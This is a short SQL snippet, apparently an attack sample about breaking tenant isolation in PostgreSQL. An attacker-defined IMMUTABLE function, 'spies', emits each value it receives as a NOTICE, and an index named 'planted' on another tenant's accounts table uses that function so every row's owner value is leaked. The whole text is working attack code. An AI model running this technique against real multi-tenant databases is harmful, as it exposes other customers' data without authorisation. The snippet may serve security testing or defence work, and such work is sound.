-- An index on another tenant's table whose expression is the attacker's function: it is told every row.
CREATE FUNCTION spies(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1; END $$;
CREATE INDEX planted ON tenant_beta.accounts (spies(owner));
